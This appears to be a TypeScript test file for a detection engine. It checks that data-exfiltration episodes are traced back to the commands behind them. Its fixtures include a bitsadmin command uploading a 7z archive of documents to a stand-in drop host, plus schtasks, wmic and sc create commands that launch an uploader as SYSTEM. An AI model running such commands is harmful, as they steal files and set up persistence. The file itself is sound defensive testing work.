import { describe, expect, it } from 'vitest';
import { Enricher } from '../../enrich/enricher.ts';
import type { EndpointEvent, ProcessRef } from '../../enrich/event/endpoint-event.ts';
import { FeedNormalizer } from '../../enrich/ingest/normalizer.ts';
import { HostClocks } from '../../enrich/join/clock.ts';
import { type Episode, episodesOfHost } from '../../enrich/score/episode.ts';
import { scoreEpisode } from '../../enrich/score/score.ts';
import { defaultSettings } from '../../enrich/settings.ts';
import { openMemory } from '../../enrich/store/memory.ts';
import type { FlowRecord } from '../../sensor/record/flow-record.ts';
import { archive, connection, flow, HOUR, IP, MINUTE, MORNING, program, SECOND, start } from './world.ts';

const SYSTEM = { id: 'S-1-5-18', name: 'NT AUTHORITY\\SYSTEM' };
const shell = program('shell', 'C:\\Windows\\System32\\cmd.exe', { pid: 5_000 });
const child = (id: string, image: string, commandLine: string, parent: ProcessRef, more: Partial<ProcessRef> = {}) =>
  program(id, image, { commandLine, parent: { entityId: parent.entityId, image: parent.image! }, ...more });
const services = program('services', 'C:\\Windows\\System32\\services.exe', { user: SYSTEM });
const svchost = child('svchost', 'C:\\Windows\\System32\\svchost.exe', 'svchost.exe -k netsvcs -p -s BITS', services, {
  user: SYSTEM,
});
const QUIET = 'C:\\Users\\Public\\q.7z';
const packer = child('packer', 'C:\\Tools\\7z.exe', `7z a ${QUIET} C:\\docs`, shell);
const bits = (id: string, parent: ProcessRef, line: string): ProcessRef =>
  child(id, 'C:\\Windows\\System32\\bitsadmin.exe', line, parent);
const JOB = `bitsadmin /transfer j /upload https://drop.example.net/u ${QUIET}`;
const SENT = flow(MORNING + 10 * MINUTE, { port: 50_100, sent: 8_020_000, seconds: 20 });
const packed: readonly EndpointEvent[] = [
  start(MORNING - MINUTE, shell),
  start(MORNING, packer),
  archive(MORNING + SECOND, packer, QUIET, 8_000_000),
];

async function episodes(events: readonly EndpointEvent[], flows: readonly FlowRecord[] = [SENT]): Promise<Episode[]> {
  const store = openMemory();
  const settings = defaultSettings();
  const enricher = new Enricher(store, settings);
  await enricher.putEvents(events);
  await enricher.putFlows(flows);
  await enricher.settle();
  return episodesOfHost(store, new HostClocks(store), events[0]!.host.id, MORNING, MORNING + HOUR, settings);
}

async function only(events: readonly EndpointEvent[]): Promise<Episode> {
  const found = await episodes(events);
  expect(found).toHaveLength(1);
  return found[0]!;
}

describe('a job of the transfer service', () => {
  const sends = connection(MORNING + 10 * MINUTE + SECOND, svchost, SENT);
  const asked = start(MORNING + 9 * MINUTE, bits('bits', shell, JOB));

  it('is laid to the command that made it; that the service sent it stays as it was', async () => {
    const episode = await only([...packed, asked, sends]);
    expect(episode.process?.entityId).toBe('svchost');
    expect(episode.chain?.map(({ entityId, asked: how }) => [entityId, how])).toEqual([
      ['svchost', undefined],
      ['bits', 'transfer'],
      ['shell', undefined],
    ]);
    expect(episode.staging[0]!.link).toBe('referenced');
    const names = scoreEpisode(episode, defaultSettings()).terms.map(({ name }) => name);
    expect(names).toEqual(expect.arrayContaining(['asked_service', 'upload_verb', 'lolbin', 'byte_balance']));
  });

  it('is nobody’s when the command names another host, came after it, or a day before it', async () => {
    const other = start(MORNING + 9 * MINUTE, bits('bits', shell, JOB.replace('drop', 'else')));
    const after = start(MORNING + 11 * MINUTE, bits('bits', shell, JOB));
    const old = start(MORNING - 25 * HOUR, bits('bits', shell, JOB));
    for (const event of [other, after, old]) {
      const episode = await only([...packed, event, sends]);
      expect(episode.chain?.map(({ entityId }) => entityId)).toEqual(['svchost', 'services']);
    }
  });

  it('is nobody’s when commands of two lineages asked for the same place', async () => {
    const stranger = program('stranger', 'C:\\Tools\\other.exe');
    const both = [...packed, asked, start(MORNING + 8 * MINUTE, bits('bits-2', stranger, JOB)), sends];
    expect((await only(both)).chain?.map(({ entityId }) => entityId)).toEqual(['svchost', 'services']);
    const again = [...packed, asked, start(MORNING + 8 * MINUTE, bits('bits-2', shell, JOB)), sends];
    expect((await only(again)).chain?.[1]).toMatchObject({ entityId: 'bits', asked: 'transfer' });
  });

  it('is never a program’s that only bears the service’s name', async () => {
    const copy = child('copy', 'C:\\PerfLogs\\svchost.exe', 'svchost.exe', services);
    const episode = await only([...packed, asked, connection(MORNING + 10 * MINUTE + SECOND, copy, SENT)]);
    expect(episode.chain?.map(({ entityId }) => entityId)).toEqual(['copy', 'services']);
  });

  it('is found whichever event comes last', async () => {
    const store = openMemory();
    const enricher = new Enricher(store, defaultSettings());
    await enricher.putEvents([...packed, sends]);
    await enricher.putFlows([SENT]);
    await enricher.settle();
    await enricher.putEvents([asked]);
    await enricher.settle();
    const late = (await store.listAlerts({ limit: 10 })).map(({ id }) => id);
    const first = openMemory();
    const whole = new Enricher(first, defaultSettings());
    await whole.putEvents([asked, ...packed, sends]);
    await whole.putFlows([SENT]);
    await whole.settle();
    expect(late).toEqual((await first.listAlerts({ limit: 10 })).map(({ id }) => id));
  });

  it('is read from Sysmon’s records', async () => {
    const guid = (n: number) => `{7d2b1c40-0000-0000-0000-00000000000${n}}`;
    const record = (event_id: number, at: number, event_data: Record<string, string>) =>
      new FeedNormalizer().normalize({
        winlog: {
          channel: 'Microsoft-Windows-Sysmon/Operational',
          provider_name: 'Microsoft-Windows-Sysmon',
          event_id,
          record_id: at,
          computer_name: 'WS01.corp.example',
          event_data: { UtcTime: new Date(at / 1000).toISOString().replace('T', ' ').slice(0, 23), ...event_data },
        },
      });
    const started = (at: number, n: number, image: string, line: string, parent: number, from: string) =>
      record(1, at, {
        ProcessGuid: guid(n),
        ProcessId: String(1_000 + n),
        Image: image,
        CommandLine: line,
        CurrentDirectory: 'C:\\',
        User: n === 4 ? 'NT AUTHORITY\\SYSTEM' : 'CORP\\ann',
        LogonId: n === 4 ? '0x3e7' : '0x51a2f',
        ParentProcessGuid: guid(parent),
        ParentProcessId: String(1_000 + parent),
        ParentImage: from,
      });
    const cmd = 'C:\\Windows\\System32\\cmd.exe';
    const system = 'C:\\Windows\\System32\\svchost.exe';
    const events = [
      ...started(
        MORNING - HOUR,
        4,
        system,
        `${system} -k netsvcs -p -s BITS`,
        9,
        'C:\\Windows\\System32\\services.exe',
      ),
      ...started(MORNING, 1, cmd, 'cmd.exe', 8, 'C:\\Windows\\explorer.exe'),
      ...started(MORNING + SECOND, 2, 'C:\\Tools\\7z.exe', `7z a ${QUIET} C:\\docs`, 1, cmd),
      ...started(MORNING + 9 * MINUTE, 3, 'C:\\Windows\\System32\\bitsadmin.exe', JOB, 1, cmd),
      ...record(3, MORNING + 10 * MINUTE, {
        ProcessGuid: guid(4),
        ProcessId: '1004',
        Image: system,
        User: 'NT AUTHORITY\\SYSTEM',
        Protocol: 'tcp',
        Initiated: 'true',
        SourceIp: IP,
        SourcePort: '50100',
        DestinationIp: SENT.destination.ip,
        DestinationPort: '443',
      }),
    ];
    const episode = await only(events);
    expect(episode.chain?.map(({ image }) => image?.split('\\').at(-1))).toEqual([
      'svchost.exe',
      'bitsadmin.exe',
      'cmd.exe',
      'explorer.exe',
    ]);
    expect(episode.staging[0]!.link).toBe('referenced');
  });
});

describe('a process that a service started', () => {
  const UP = `C:\\PerfLogs\\up.exe ${QUIET}`;
  const asks = (line: string): EndpointEvent =>
    start(MORNING + 8 * MINUTE, child('asker', `C:\\Windows\\System32\\${line.split(' ')[0]}.exe`, line, shell));
  const sender = (broker: ProcessRef, line = UP): EndpointEvent[] => {
    const up = child('up', 'C:\\PerfLogs\\up.exe', line, broker, { user: SYSTEM });
    return [start(MORNING + 9 * MINUTE, up), connection(MORNING + 10 * MINUTE + SECOND, up, SENT)];
  };
  const wmi = child('wmi', 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe', 'wmiprvse.exe', svchost, { user: SYSTEM });

  it.each([
    ['schtasks /create /tn u /sc once /st 23:00 /ru SYSTEM /tr "UP"', svchost],
    ['wmic process call create "UP"', wmi],
    ['sc create upd binPath= "UP"', services],
  ])('belongs to the lineage of %s', async (line, broker) => {
    const episode = await only([...packed, asks(line.replace('UP', UP)), ...sender(broker)]);
    expect(episode.chain?.map(({ entityId, asked }) => [entityId, asked])).toEqual([
      ['up', undefined],
      ['asker', 'start'],
      ['shell', undefined],
    ]);
  });

  it('belongs to nobody’s when another command line was asked for', async () => {
    const line = `schtasks /create /tn u /sc once /st 23:00 /tr "${UP}"`;
    const episode = await only([...packed, asks(line), ...sender(svchost, 'C:\\PerfLogs\\up.exe C:\\other.7z')]);
    expect(episode.chain?.map(({ entityId }) => entityId)).toEqual(['up', 'svchost']);
  });
});
